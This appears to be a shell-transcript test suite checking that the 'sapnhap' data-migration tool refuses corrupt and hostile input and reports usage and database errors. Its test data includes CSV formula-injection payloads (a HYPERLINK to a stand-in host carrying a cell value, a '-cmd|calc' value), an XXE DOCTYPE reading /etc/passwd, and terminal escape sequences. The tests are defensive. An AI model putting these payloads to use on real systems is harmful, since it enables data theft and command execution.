# Hostile and damaged input (part of "steps a migration team can trust"): nothing is lost without a
# word, every refusal names the file and line, exits 3 and leaves the database byte for byte as
# it was. Set-up: the samples' registries and the Bình Phước catalog.
$ sapnhap units import samples/units/conversion-2025.csv >/dev/null && sapnhap agencies import samples/agencies/binhphuoc.csv --province 70 >/dev/null && sapnhap agencies import samples/agencies/dongnai.xml --province 75 >/dev/null && sapnhap catalog import samples/catalogs/binhphuoc.csv --province 70 >/dev/null && cp sapnhap.db before.db

# A NUL byte inside a cell would end the C string there (000.00.01\0H10 stored as 000.00.01):
# refused with its line by every CSV reader.
$ printf 'code,name,kind\n000.00.01\000H10,Văn phòng,department\n' > nul.csv; sapnhap agencies import nul.csv --province 70 --force; echo "[status $?]"; cmp -s before.db sapnhap.db && echo unchanged
[status 3]
unchanged
! sapnhap: lỗi: nul.csv:2: có byte NUL trong văn bản (tệp bị hỏng hoặc không phải văn bản): byte này sẽ cắt cụt giá trị; hãy xóa byte này
$ { head -n 2 samples/catalogs/binhphuoc.csv; printf '1.000894,1.000894.000.00.00.H10,Thủ tục\000 đăng ký kết hôn,G15-TP07,Hộ tịch,Cấp Xã,1,ngày làm việc,Không,một phần,không,Luật,000.50.31.H10\n'; } > nul-cat.csv; sapnhap catalog import nul-cat.csv --province 70 --force; echo "[status $?]"; cmp -s before.db sapnhap.db && echo unchanged
[status 3]
unchanged
! sapnhap: lỗi: nul-cat.csv:3: có byte NUL trong văn bản (tệp bị hỏng hoặc không phải văn bản): byte này sẽ cắt cụt giá trị; hãy xóa byte này
$ { head -n 2 samples/dossiers/binhphuoc.csv; printf '000.00.32.H10-250624-0042\000X,1.001612,000.00.32.H10,25198,,,,\n'; } > nul-dos.csv; sapnhap dossiers import nul-dos.csv --province 70; echo "[status $?]"; cmp -s before.db sapnhap.db && echo unchanged
[status 3]
unchanged
! sapnhap: lỗi: nul-dos.csv:3: có byte NUL trong văn bản (tệp bị hỏng hoặc không phải văn bản): byte này sẽ cắt cụt giá trị; hãy xóa byte này
$ { head -n 12 samples/units/dongnai-2026.csv; printf '\000\n'; } > nul-units.csv; sapnhap units import nul-units.csv --event bad --kind changes --effective 2026-05-01; echo "[status $?]"; cmp -s before.db sapnhap.db && echo unchanged
[status 3]
unchanged
! sapnhap: lỗi: nul-units.csv:7: có byte NUL trong văn bản (tệp bị hỏng hoặc không phải văn bản): byte này sẽ cắt cụt giá trị; hãy xóa byte này

# The same agency code in both notations is one code written twice.
$ printf 'code,name,kind\n000.00.16.H11,Sở Xây dựng,department\nH11.16,Sở Xây dựng,department\n' > both.csv; sapnhap agencies import both.csv --province 60; echo "[status $?]"; cmp -s before.db sapnhap.db && echo unchanged
[status 3]
unchanged
! sapnhap: lỗi: both.csv:3: mã H11.16 xuất hiện hai lần (lần đầu tại both.csv:2, viết là 000.00.16.H11)
$ printf 'code,name,kind\nH10.01,Văn phòng,department\n' > other-province.csv; sapnhap agencies import other-province.csv --province 60; echo "[status $?]"; cmp -s before.db sapnhap.db && echo unchanged
[status 3]
unchanged
! sapnhap: lỗi: other-province.csv:2: mã định danh cơ quan H10.01 thuộc tỉnh 70 (Tỉnh Bình Phước, mã cấp 1 H10), không thuộc tỉnh 60 ghi trong --province

# A binding (or a dossier's agency) written in the other notation is the same agency, stored as
# the registry writes it.
$ sed '2s/000\.50\.31\.H10:online;/H10.31.50:online;/' samples/catalogs/binhphuoc.csv > left.csv; sapnhap --db left.db units import samples/units/conversion-2025.csv >/dev/null; sapnhap --db left.db agencies import samples/agencies/binhphuoc.csv --province 70 >/dev/null; sapnhap --db left.db catalog import left.csv --province 70; sqlite3 left.db "SELECT agency_code, online FROM binding WHERE national_code = '1.001193' ORDER BY id LIMIT 1"
đã nhập danh mục thủ tục của tỉnh 70 từ left.csv: procedures=41 bindings=158
000.50.31.H10|1
$ printf 'dossier_code,national_code,agency_code\n000.00.32.H10-250624-0041,1.001612,H10.32\n' > left-dossiers.csv; sapnhap --db left.db dossiers import left-dossiers.csv --province 70; sqlite3 left.db "SELECT code, agency_code FROM dossier"
đã nhập hồ sơ của tỉnh 70 từ left-dossiers.csv: dossiers=1
000.00.32.H10-250624-0041|000.00.32.H10

# Characters XML 1.0 cannot carry would make 'export --format xml' not well-formed: refused at
# import with their line (CSV, XML and XLSX alike), and echoed escaped.
$ printf 'code,name,kind\n000.00.16.H11,Sở Xây dựng\357\277\276,department\n' > fffe.csv; sapnhap agencies import fffe.csv --province 60; echo "[status $?]"; cmp -s before.db sapnhap.db && echo unchanged
[status 3]
unchanged
! sapnhap: lỗi: fffe.csv:2: điểm mã không phải ký tự U+FFFE không được phép có trong văn bản (XML không chứa được); hãy xóa điểm mã này
$ { head -n 2 samples/catalogs/binhphuoc.csv; printf '1.000894,1.000894.000.00.00.H10,Kết hôn\357\277\277,G15-TP07,Hộ tịch,Cấp Xã,1,ngày làm việc,Không,một phần,không,Luật,000.50.31.H10\n'; } > ffff.csv; sapnhap catalog import ffff.csv --province 70 --force; echo "[status $?]"; cmp -s before.db sapnhap.db && echo unchanged
[status 3]
unchanged
! sapnhap: lỗi: ffff.csv:3: điểm mã không phải ký tự U+FFFF không được phép có trong văn bản (XML không chứa được); hãy xóa điểm mã này
$ printf 'code,name,kind\n000.00.16.H11,"Sở\nXây\033[2J dựng",department\n' > esc.csv; sapnhap agencies import esc.csv --province 60; echo "[status $?]"; cmp -s before.db sapnhap.db && echo unchanged
[status 3]
unchanged
! sapnhap: lỗi: esc.csv:3: ký tự điều khiển U+001B không được phép có trong văn bản (XML không chứa được); hãy xóa ký tự này
$ iconv -f UTF-8 -t CP1258 samples/agencies/binhphuoc.csv | sed '2s/,province-committee,/,province\x01committee,/' > ctl-cp1258.csv; sapnhap agencies import ctl-cp1258.csv --province 70 --force; echo "[status $?]"; cmp -s before.db sapnhap.db && echo unchanged
[status 3]
unchanged
! sapnhap: lỗi: ctl-cp1258.csv:2: ký tự điều khiển U+0001 không được phép có trong văn bản (XML không chứa được); hãy xóa ký tự này
$ sed '0,/<\/name>/s|</name>|\&#xFFFE;</name>|' samples/agencies/dongnai.xml > fffe.xml; grep -c FFFE fffe.xml; sapnhap agencies import fffe.xml --province 75 --force; echo "[status $?]"; cmp -s before.db sapnhap.db && echo unchanged
1
[status 3]
unchanged
! sapnhap: lỗi: fffe.xml:4: xmlParseCharRef: invalid xmlChar value 65534
$ mkdir -p x && cp -r data/xlsx-sample/. x/ && sed -i 's|<t>Mã Xã cũ</t>|<t>Mã Xã cũ\&#1;</t>|' x/xl/sharedStrings.xml && (cd x && zip -qX -r ../ctl.xlsx .); sapnhap units import ctl.xlsx --event bad --effective 2025-08-01; echo "[status $?]"; cmp -s before.db sapnhap.db && echo unchanged
[status 3]
unchanged
! sapnhap: lỗi: 'ctl.xlsx': xl/sharedStrings.xml:9: xmlParseCharRef: invalid xmlChar value 1

# A C1 control in a value that is echoed (an unknown kind) is shown escaped, not sent to the terminal.
$ printf 'code,name,kind\n000.00.16.H11,Sở Xây dựng,depart\302\233ment\n' > c1.csv; sapnhap agencies import c1.csv --province 60; echo "[status $?]"
[status 3]
! sapnhap: lỗi: c1.csv:2: loại 'depart\u009bment' của 000.00.16.H11 không thuộc các loại province-committee, province-council, department, department-unit, district-committee, district-office, commune-committee, service-unit, other

# Cells a spreadsheet would run as formulas are neutralised in every CSV we write, and read back
# exactly (export -> diff is the round trip).
$ printf 'code,name,kind,phone\n000.00.00.H11,=HYPERLINK("http://x.example/?"&A1;"bấm"),province-committee,+84 271 3879 456\n000.00.01.H11,@SUM(1+1),department,-\n000.00.02.H11,+Thuế,department,\n' > formula.csv; sapnhap --db f.db units import samples/units/conversion-2025.csv >/dev/null; sapnhap --db f.db agencies import formula.csv --province 60 && sapnhap --db f.db agencies list --province 60 --format csv
đã nhập danh mục cơ quan của tỉnh 60 từ formula.csv: agencies=3 nonconforming=0
code,name,kind,parent_code,unit_code,status,problem
000.00.00.H11,"'=HYPERLINK(""http://x.example/?""&A1;""bấm"")",province-committee,,,active,
000.00.01.H11,'@SUM(1+1),department,,,active,
000.00.02.H11,'+Thuế,department,,,active,
$ printf 'national_code,name,levels,agencies\n1.001193,=1+2,Cấp Xã,\n' > f-before.csv; printf 'national_code,name,levels,agencies\n1.001193,-cmd|calc,Cấp Xã,\n' > f-after.csv; sapnhap diff f-before.csv f-after.csv --format tdiff; sapnhap diff f-before.csv f-after.csv --format csv
@@,entity,key,field,value
'->,procedure,1.001193,name,'=1+2->-cmd|calc
Đối tượng (entity),Loại thay đổi (kind),Mã (key),Tên (name),Trường (field),Trước (before),Sau (after),Giá trị quyết định (decision),Lý do (reason)
thủ tục,thay đổi,1.001193,'-cmd|calc,Tên,'=1+2,'-cmd|calc,,

# UTF-16 with a byte-order mark (Excel's "Unicode text") and ';'-separated CSV (Excel's "CSV" on
# a Vietnamese-locale Windows, with or without its sep=; line) are read like the others.
$ iconv -f UTF-8 -t UTF-16 samples/agencies/binhphuoc.csv > utf16.csv; head -c 2 utf16.csv | od -An -tx1; sapnhap --db u16.db units import samples/units/conversion-2025.csv >/dev/null; sapnhap --db u16.db agencies import utf16.csv --province 70
 ff fe
đã nhập danh mục cơ quan của tỉnh 70 từ utf16.csv: agencies=67 nonconforming=1
$ { printf 'sep=;\r\n'; sed 's/,/;/g' samples/units/conversion-2025.csv | iconv -f UTF-8 -t CP1258; } > semi.csv; sapnhap --db semi.db units import semi.csv; sapnhap --db comma.db units import samples/units/conversion-2025.csv > /dev/null; Q='SELECT level,code,name,parent_code FROM unit ORDER BY 1,2'; sqlite3 semi.db "$Q" > a.txt; sqlite3 comma.db "$Q" > b.txt; cmp a.txt b.txt && echo same registry
đã nhập sự kiện 'reform-2025' (conversion, hiệu lực 2025-07-01) từ semi.csv [cp1258]: rows=43 links=39 old_communes=36 new_communes=25 new_provinces=4 padded_codes=2
same registry
$ sed 's/,/;/g' samples/agencies/binhphuoc.csv | head -n 3 > semi-ag.csv; sapnhap --db semi.db agencies import semi-ag.csv --province 70 --dry-run
chạy thử: sẽ nhập danh mục cơ quan của tỉnh 70 từ semi-ag.csv: agencies=2 nonconforming=0
$ { printf 'sep=;\n'; printf 'code;name;kind\n000.00.00.H10;Ủy ban;province-committee\n000.00.01.H10\000;Văn phòng;department\n'; } > semi-nul.csv; sapnhap --db semi.db agencies import semi-nul.csv --province 70; echo "[status $?]"
[status 3]
! sapnhap: lỗi: semi-nul.csv:4: có byte NUL trong văn bản (tệp bị hỏng hoặc không phải văn bản): byte này sẽ cắt cụt giá trị; hãy xóa byte này

# An empty file is named.
$ : > empty.csv; sapnhap agencies import empty.csv --province 60; echo "[status $?]"; sapnhap catalog import empty.csv --province 75; echo "[status $?]"; sapnhap dossiers import empty.csv --province 70; echo "[status $?]"; cmp -s before.db sapnhap.db && echo unchanged
[status 3]
[status 3]
[status 3]
unchanged
! sapnhap: lỗi: empty.csv: tệp trống (không có dòng tiêu đề)
! sapnhap: lỗi: empty.csv: tệp trống (không có dòng tiêu đề)
! sapnhap: lỗi: empty.csv: tệp trống (không có dòng tiêu đề)

# A DOCTYPE after a comment or a processing instruction holding '<' is still found and refused.
$ printf '<?xml version="1.0"?>\n<!-- a <b> c -->\n<?note <x?>\n<!DOCTYPE agencies [<!ENTITY e SYSTEM "file:///etc/passwd">]>\n<agencies xmlns="urn:sapnhap:agencies:1"><agency><code>&e;</code></agency></agencies>\n' > doctype.xml; sapnhap agencies import doctype.xml --province 60; echo "[status $?]"; cmp -s before.db sapnhap.db && echo unchanged
[status 3]
unchanged
! sapnhap: lỗi: doctype.xml:1: từ chối DOCTYPE (các định dạng XML của sapnhap không bao giờ khai báo DOCTYPE; thực thể có thể là một cuộc tấn công)

# Usage errors say what is wrong: exit 2.
$ sapnhap queue --step bogus
! sapnhap: lỗi: --step phải là recode, reassign hoặc dossiers import, không phải 'bogus'
! xem hướng dẫn: 'sapnhap queue --help'
[exit 2]
$ sapnhap validate --format
! sapnhap: lỗi: tùy chọn '--format' cần một giá trị
! xem hướng dẫn: 'sapnhap validate --help'
[exit 2]
$ sapnhap validate --format=yaml
! sapnhap: lỗi: --format phải là text, csv hoặc json, không phải 'yaml'
! xem hướng dẫn: 'sapnhap validate --help'
[exit 2]
$ sapnhap queue --format=csv --step=recode
step,subject,field,reason,detail
$ sapnhap status --dry-run=yes
! sapnhap: lỗi: không có tùy chọn '--dry-run'
! xem hướng dẫn: 'sapnhap status --help'
[exit 2]
$ sapnhap status extra
! sapnhap: lỗi: đối số không mong đợi 'extra'
! xem hướng dẫn: 'sapnhap status --help'
[exit 2]
$ sapnhap agencies import samples/agencies/binhphuoc.csv --province
! sapnhap: lỗi: tùy chọn '--province' cần một giá trị
! xem hướng dẫn: 'sapnhap agencies import --help'
[exit 2]
$ sapnhap --db
! sapnhap: lỗi: tùy chọn '--db' cần một giá trị (cơ sở dữ liệu làm việc)
! xem hướng dẫn: 'sapnhap --help'
[exit 2]
$ sapnhap agencies import samples/agencies/binhphuoc.csv --province 70 --force=yes
! sapnhap: lỗi: tùy chọn '--force' không nhận giá trị
! xem hướng dẫn: 'sapnhap agencies import --help'
[exit 2]
$ sapnhap validate --nonsense
! sapnhap: lỗi: không có tùy chọn '--nonsense'
! xem hướng dẫn: 'sapnhap validate --help'
[exit 2]

# The database: missing, a folder, not a database, read-only, disk full. What happened and what
# to do; no SQL (SAPNHAP_TRACE=1 adds it on a trace line).
$ sapnhap --db none.db status
! sapnhap: lỗi: không có cơ sở dữ liệu làm việc 'none.db' (không có tệp này): hãy tạo bằng 'sapnhap units import', hoặc chỉ ra cơ sở dữ liệu của bạn bằng --db FILE
[exit 4]
$ mkdir -p folder; sapnhap --db folder units import samples/units/conversion-2025.csv
! sapnhap: lỗi: 'folder' là thư mục, không phải tệp cơ sở dữ liệu; hãy chỉ ra một tệp bằng --db (ví dụ --db folder/sapnhap.db)
[exit 4]
$ echo 'not a database' > text.db; sapnhap --db text.db status; sapnhap --db text.db agencies import samples/agencies/binhphuoc.csv --province 70; echo "[status $?]"; cat text.db
[status 4]
not a database
! sapnhap: lỗi: 'text.db' không phải cơ sở dữ liệu của sapnhap (không phải tệp SQLite); hãy chỉ ra cơ sở dữ liệu làm việc bằng --db, hoặc tên một tệp mới để tạo cơ sở dữ liệu mới
! sapnhap: lỗi: 'text.db' không phải cơ sở dữ liệu của sapnhap (không phải tệp SQLite); hãy chỉ ra cơ sở dữ liệu làm việc bằng --db, hoặc tên một tệp mới để tạo cơ sở dữ liệu mới
$ mkdir rodir; cp before.db rodir/ro.db; chmod 444 rodir/ro.db; chmod 777 rodir; chmod 755 .; S=$(readlink -f "$(command -v sapnhap)"); if [ "$(id -u)" = 0 ]; then run() { setpriv --reuid=65534 --regid=65534 --clear-groups "$@"; }; else run() { "$@"; }; fi; run "$S" --db rodir/ro.db agencies import samples/agencies/dongnai.xml --province 75 --force; echo "[status $?]"; cmp -s before.db rodir/ro.db && echo unchanged
[status 4]
unchanged
! sapnhap: lỗi: không ghi được 'rodir/ro.db': tệp chỉ cho phép đọc; hãy cho phép ghi (chmod u+w), hoặc làm việc trên một bản sao ghi được với --db COPY
$ cp before.db full.db; blocks=16; sh -c "trap '' XFSZ; ulimit -f $blocks; exec sapnhap --db full.db catalog import samples/catalogs/dongnai.xml --province 75"; echo "[status $?]"; cmp -s before.db full.db && echo unchanged
[status 4]
unchanged
! sapnhap: lỗi: không ghi được 'full.db': đã đạt giới hạn kích thước tệp (ulimit -f); hãy nâng giới hạn rồi chạy lại bước (cơ sở dữ liệu giữ nguyên dữ liệu trước bước này)
$ cp before.db full.db; blocks=16; SAPNHAP_TRACE=1 sh -c "trap '' XFSZ; ulimit -f $blocks; exec sapnhap --db full.db catalog import samples/catalogs/dongnai.xml --province 75" 2>&1 | grep -c 'trace: .*in: '
1
